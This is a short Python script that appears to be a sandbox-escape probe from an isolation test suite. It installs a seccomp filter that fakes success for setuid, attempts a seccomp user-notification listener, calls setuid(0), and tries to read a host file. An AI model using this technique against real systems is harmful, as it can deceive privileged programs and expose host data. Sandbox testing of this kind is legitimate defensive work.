# Tries to lie to programs with more rights by a filter of its own, which answers their system calls.
# gvisor, microvm: denied or own
import ctypes
import os
import struct
import subprocess

from attempt import attempt, read, syscall

LOAD, EQUAL, RETURN = 0x20, 0x15, 0x06
# Every setuid(2), number 105, "succeeds" and does nothing.
steps = [(LOAD, 0, 0, 0), (EQUAL, 0, 1, 105), (RETURN, 0, 0, 0x00050000), (RETURN, 0, 0, 0x7FFF0000)]
code = ctypes.create_string_buffer(b"".join(struct.pack("=HBBI", *step) for step in steps))
program = ctypes.create_string_buffer(struct.pack("=H6xQ", len(steps), ctypes.addressof(code)))
attempt("listener", lambda: syscall(317, 1, 8, program) and "made")
attempt("filter", lambda: syscall(317, 1, 0, program) or "set")
attempt("user", lambda: os.setuid(0) or subprocess.run(["id", "-u"], capture_output=True).stdout)
attempt("file", lambda: read(os.environ["HOST_FILE"]))
